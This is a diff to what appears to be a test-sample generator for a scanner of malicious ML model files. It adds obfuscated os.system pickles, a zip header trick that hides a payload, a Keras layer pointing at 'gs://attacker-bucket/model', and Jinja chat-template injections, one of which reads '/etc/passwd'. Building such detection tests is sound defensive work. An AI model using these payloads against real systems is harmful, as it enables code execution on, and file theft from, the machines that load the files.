@@ -98,6 +98,8 @@ def write_pickle_tricks(g):
         "torch-jit-load.pkl": pa.proto(2) + pa.glob("torch.jit", "load") + pa.ustr("/tmp/x.pt") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
         "torch-ops-load-library.pkl": pa.proto(2) + pa.glob("torch.ops", "load_library") + pa.ustr("/tmp/x.so") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
         "keras-models-load-model.pkl": pa.proto(2) + pa.glob("keras.models", "load_model") + pa.ustr("/tmp/x.keras") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
+        "stack-global-string-escapes.pkl": pa.proto(4) + b"S'o\\x73'\n" + b"S'sy\\163tem'\n" + pa.STACK_GLOBAL + pa.ustr("id") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
+        "stack-global-short-binstring.pkl": pa.proto(4) + b"U\x02os" + b"U\x06system" + pa.STACK_GLOBAL + pa.ustr("id") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
         "huggingface-hub-download.pkl": pa.proto(2) + pa.glob("huggingface_hub", "hf_hub_download") + pa.ustr("x/y") + pa.TUPLE1 + pa.REDUCE + pa.STOP,
     }
     for name, data in cases.items():
@@ -175,6 +177,11 @@ def write_joblib_paths(g):
     obj_dtype = pa.glob("numpy", "dtype") + pa.MARK + pa.ustr("O8") + pa.NEWFALSE + pa.NEWTRUE + pa.TUPLE + pa.REDUCE + pa.MARK + pa.bint(3) + pa.ustr("|") + pa.NONE + pa.NONE + pa.NONE + b"J\xff\xff\xff\xff" + b"J\xff\xff\xff\xff" + pa.bint(63) + pa.TUPLE + pa.BUILD
     d = pa.proto(2) + recon + wrapper_state(obj_dtype, pa.bint(1) + pa.TUPLE1) + pa.BUILD + pa.STOP + call("os", "system", "id", protocol=2)
     w("malicious", "joblib2/reconstructor-wrapper-object.joblib", d, "joblib", "DANGEROUS: os.system — object array of a wrapper made by copyreg._reconstructor")
+    # 4b. a wrapper inside an object array's nested pickle: joblib loads that with plain pickle.load
+    inner = pa.proto(2) + wrapper + pa.EMPTY_TUPLE + NEWOBJ + wrapper_state(dtype_of("u1"), pa.bint(len(evil)) + pa.TUPLE1) + pa.BUILD + evil + pa.POP + pa.STOP
+    objd = pa.glob("numpy", "dtype") + pa.MARK + pa.ustr("O8") + pa.NEWFALSE + pa.NEWTRUE + pa.TUPLE + pa.REDUCE
+    d = pa.proto(2) + wrapper + pa.EMPTY_TUPLE + NEWOBJ + wrapper_state(objd, pa.bint(1) + pa.TUPLE1) + pa.BUILD + inner + pa.POP + pa.NONE + pa.STOP
+    w("malicious", "joblib2/nested-wrapper-in-object-array.joblib", d, "joblib", "DANGEROUS: os.system — a wrapper inside an object array's nested pickle (plain pickle.load reads its 'array bytes' as opcodes)")
     # 5. shape given as numpy int64 scalars (joblib casts each with np.int64)
     def np_int(v: int) -> bytes:
         return pa.glob("numpy.core.multiarray", "scalar") + dtype_of("i8") + sb(struct.pack("<q", v)) + pa.TUPLE2 + pa.REDUCE
@@ -297,6 +304,13 @@ def write_torch_paths(g):
     w("malicious", "torch2/duplicate-data-pkl.pt", raw_zip([("archive/data.pkl", good), ("archive/data.pkl", evil), ("archive/version", b"3\n")]), "torch", "FLAGGED or REJECT: os.system — two data.pkl members")
     w("malicious", "torch2/comment-hides-eocd.pt", raw_zip(base, comment=b"model card: see README"), "torch", "DANGEROUS: os.system — zip with an archive comment")
     w("malicious", "torch2/deflated-data-pkl.pt", g.zip_bytes([("archive/data.pkl", evil), ("archive/version", b"3\n")], zipfile.ZIP_DEFLATED), "torch", "DANGEROUS: os.system — data.pkl deflated")
+    # local header with a long extra field holding a benign pickle; the data after it is the payload
+    good_small = pickle.dumps({"a": 1}, protocol=2)
+    ex = struct.pack("<HH", 0xCAFE, len(good_small)) + good_small
+    nb = b"archive/data.pkl"
+    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, zlib.crc32(evil), len(evil), len(evil), len(nb), len(ex)) + nb + ex + evil
+    cdir = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21, zlib.crc32(evil), len(evil), len(evil), len(nb), 0, 0, 0, 0, 0o644 << 16, 0) + nb
+    w("malicious", "torch2/local-extra-hides-pickle.pt", local + cdir + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(cdir), len(local), 0), "torch", "DANGEROUS: os.system — a benign pickle in the local header's extra field, the payload after it")
     # legacy tar checkpoint: torch.load's _legacy_load reads the 'pickle' member of a tar
     t = g.tar_bytes([("sys_info", pickle.dumps({"little_endian": True}, protocol=2), tarfile.REGTYPE), ("pickle", evil, tarfile.REGTYPE), ("storages", pickle.dumps(0, protocol=2), tarfile.REGTYPE), ("tensors", pickle.dumps(0, protocol=2), tarfile.REGTYPE)])
     w("malicious", "torch2/legacy-tar.pt", t, "torch", "DANGEROUS: os.system — torch's legacy tar layout (its 'pickle' member)")
@@ -331,6 +345,11 @@ def write_keras_paths(g):
         "subprocess-in-regularizer": with_layer({"module": "keras.layers", "class_name": "Dense", "config": {"name": "d9", "units": 2, "kernel_regularizer": {"module": "subprocess", "class_name": "Popen", "config": {"args": "id"}, "registered_name": None}}, "registered_name": None}),
         "lambda-in-timedistributed": with_layer({"module": "keras.layers", "class_name": "TimeDistributed", "config": {"name": "td", "layer": {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA", "defaults": None, "closure": None}}}, "registered_name": None}}, "registered_name": None}),
     }
+    import base64
+
+    torch_pickle_b64 = base64.b64encode(call("os", "system", "id", protocol=2)).decode()
+    variants["torch-module-wrapper"] = with_layer({"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"name": "tw", "module": torch_pickle_b64, "output_shape": None}, "registered_name": None})
+    variants["tfsm-layer-remote"] = with_layer({"module": "keras.layers", "class_name": "TFSMLayer", "config": {"name": "sm", "filepath": "gs://attacker-bucket/model", "call_endpoint": "serve"}, "registered_name": None})
     nested = json.loads(json.dumps(cfg))
     inner = json.loads(json.dumps(cfg))
     inner["config"]["layers"].append({"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"})
@@ -510,13 +529,20 @@ SSTI = {
     "join-list-chars": "{{ ()|attr(['_','_','c','l','a','s','s','_','_']|join('')) }}",
     "center-trim": "{{ ()|attr('__class__'|center(20)|trim) }}",
     "chr-via-format-c": "{{ ()|attr('%c%cclass%c%c'|format(95,95,95,95)) }}",
+    "macro-param-subscript-call": "{% macro m(n) %}{{ ()[n] }}{% endmacro %}{% call m('__class__') %}{% endcall %}",
+    "dict-items-loop": "{% for k, v in {'a': '__class__'}.items() %}{{ ()|attr(v) }}{% endfor %}",
+    "tuple-unpack-set": "{% set a, b = '__class__', 1 %}{{ ()|attr(a) }}",
+    "groupby-dunder": "{{ messages|groupby('__class__') }}",
+    "filter-block-attr": "{% filter attr('__class__') %}x{% endfilter %}",
+    "include-file": "{% include '/etc/passwd' %}",
+    "import-template": "{% import '../../secrets.j2' as s %}{{ s.x }}",
 }
 
 
 def write_template_paths(g):
     w = g.write
     for name, tpl in SSTI.items():
-        w("malicious", f"gguf2/{name}.gguf", g.gguf_bytes({"tokenizer.chat_template": tpl}), "gguf", f"DANGEROUS: chat-template injection — {name}")
+        w("malicious", f"gguf2/{name}.gguf", g.gguf_bytes({"tokenizer.chat_template": tpl}), "gguf", f"{'FLAGGED' if name.startswith(('include', 'import')) else 'DANGEROUS'}: chat-template injection — {name}")
     tpl = SSTI["set-block"]
     w("malicious", "gguf2/tokenizer_config-list/tokenizer_config.json", json.dumps({"chat_template": [{"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": tpl}]}).encode(), "gguf", "DANGEROUS: chat-template injection — second named template of a tokenizer_config.json list")
     w("malicious", "gguf2/chat_template-json/chat_template.json", json.dumps({"chat_template": tpl}).encode(), "gguf", "DANGEROUS: chat-template injection — processor chat_template.json")
@@ -785,6 +811,36 @@ def write_booster_paths(g):
     g.write("malicious", "boosters2/lightgbm-handle-precedence.pkl", data, "sklearn", "FLAGGED: LightGBM Booster state with a bad _handle (read first by __setstate__) and a good handle after it", stable=False)
 
 
+def write_keras_zoo(g):
+    """Keras 3 models with common layers, compiled, saved as .keras, legacy .h5 and weights."""
+    import os
+    import tempfile
+
+    import keras
+    from keras import layers
+
+    keras.utils.set_random_seed(0)
+    models = {}
+    models["cnn"] = keras.Sequential([keras.Input((8, 8, 1)), layers.Conv2D(4, 3, activation="relu"), layers.BatchNormalization(), layers.MaxPooling2D(), layers.Dropout(0.2), layers.Flatten(), layers.Dense(3, activation="softmax")])
+    a, b = keras.Input((5,), name="a"), keras.Input((3,), name="b")
+    x = layers.Concatenate()([layers.Dense(4, activation="gelu")(a), layers.Dense(4, kernel_regularizer=keras.regularizers.L2(0.01))(b)])
+    models["functional-two-inputs"] = keras.Model([a, b], layers.Dense(1, activation="sigmoid")(layers.LayerNormalization()(x)))
+    models["rnn"] = keras.Sequential([keras.Input((6,), dtype="int32"), layers.Embedding(20, 4), layers.LSTM(4, return_sequences=True), layers.GRU(3), layers.Dense(2)])
+    inp = keras.Input((4, 8))
+    models["attention"] = keras.Model(inp, layers.GlobalAveragePooling1D()(layers.Add()([inp, layers.MultiHeadAttention(num_heads=2, key_dim=4)(inp, inp)])))
+    norm = layers.Normalization()
+    norm.adapt(np.linspace(0, 1, 60, dtype=np.float32).reshape(20, 3))
+    models["normalization"] = keras.Sequential([keras.Input((3,)), norm, layers.Dense(2, activation=keras.activations.swish), layers.Activation("tanh"), layers.Rescaling(0.5)])
+    with tempfile.TemporaryDirectory() as d:
+        for name, m in models.items():
+            m.compile(optimizer=keras.optimizers.Adam(1e-3), loss=keras.losses.SparseCategoricalCrossentropy(), metrics=["accuracy", keras.metrics.AUC()])
+            for ext in ["keras", "h5", "weights.h5"]:
+                p = os.path.join(d, f"{name}.{ext}")
+                m.save_weights(p) if ext == "weights.h5" else m.save(p)
+                with open(p, "rb") as f:
+                    g.write("benign", f"keras2/{name}.{ext}", f.read(), "keras", f"CLEAN: Keras 3 {name} model ({ext})", stable=False)
+
+
 def write_all(g):
     global GEN
     GEN = g
@@ -794,6 +850,7 @@ def write_all(g):
     write_torch_paths(g)
     with without_fake_torch():
         write_keras_paths(g)
+        write_keras_zoo(g)
     write_tf_paths(g)
     write_onnx_paths(g)
     write_template_paths(g)
